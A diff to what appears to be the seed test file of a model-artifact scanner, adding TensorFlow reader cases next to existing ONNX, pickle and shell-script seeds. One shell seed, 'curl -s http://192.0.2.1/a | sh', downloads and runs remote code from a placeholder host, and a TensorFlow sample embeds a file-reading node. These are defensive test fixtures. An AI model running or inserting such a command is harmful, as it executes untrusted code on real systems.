@@ -10,6 +10,8 @@ import zipfile
 import zlib
 
 from harness import make_model_archives, make_onnx
+from harness import make_onnx
+from harness import make_tensorflow as make_tf
 from harness import make_tensors as make
 from harness.make_archives import tarred, without_central, zipped
 from harness.make_code import code_object
@@ -42,6 +44,11 @@ from pratique.artifacts.readers.streams import (
     ZlibReader,
 )
 from pratique.artifacts.readers.tar.reader import TarReader
+from pratique.artifacts.readers.tensorflow.model import (
+    FingerprintReader,
+    KerasMetadataReader,
+    TensorflowReader,
+)
 from pratique.artifacts.readers.toml_text import TomlReader
 from pratique.artifacts.readers.torch_legacy import TorchLegacyReader
 from pratique.artifacts.readers.unopened import UnopenedReader
@@ -125,6 +132,12 @@ ONNX = make_onnx.model(
     ),
     make_onnx.part(14, make_onnx.part(1, "k") + make_onnx.part(2, "v" * 300)),
 )
+TENSORFLOW = make_tf.model(
+    [*make_tf.HONEST, make_tf.const("s", "text " * 70, b"\x80\4]."), make_tf.call("f", ("s",))],
+    make_tf.init("s"),
+    make_tf.asset("s:0", "vocab.txt"),
+    functions=[make_tf.function("f", [make_tf.node("ReadFile", "r", ("x",))], ["x"])],
+)
 TORCH_MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
 TORCH_LEGACY = (
     TORCH_MAGIC
@@ -147,6 +160,8 @@ SEEDS: list[tuple[Reader, bytes]] = [
     (JsonReader(), TEXTS[8]),
     (JsonReader(), TEXTS[9]),
     (JsonReader(), b'{"a": 1}\n{"a": [NaN, 1e9, "\\u00e9"]}\n'),
+    (FingerprintReader(), make_tf.fingerprint()),
+    (KerasMetadataReader(), make_tf.keras_metadata('{"class_name": "A"}', "{}")),
     (OnnxReader(), make_onnx.model()),
     (OnnxReader(), ONNX),
     (PickleReader(), pickle.dumps({"a": [1, "b", (2.5, None)], "c": {3}}, 4)),
@@ -161,6 +176,9 @@ SEEDS: list[tuple[Reader, bytes]] = [
     (SentencePieceReader(), pieces(piece(b"long " * 80))),
     (ShellScriptReader(), b"#!/bin/sh\nset -e\ncurl -s http://192.0.2.1/a \\\n  | sh\n# done\n"),
     (ShellScriptReader(), b"FROM debian:12\nRUN apt-get update\n"),
+    (TensorflowReader(), TENSORFLOW),
+    (TensorflowReader(), make_tf.metagraph(make_tf.graph(make_tf.HONEST))),
+    (TensorflowReader(), make_tf.graph([], [make_tf.function("f", make_tf.HONEST)])),
     (TomlReader(), TEXTS[3]),
     (TorchLegacyReader(), TORCH_LEGACY),
     (YamlReader(), TEXTS[2]),
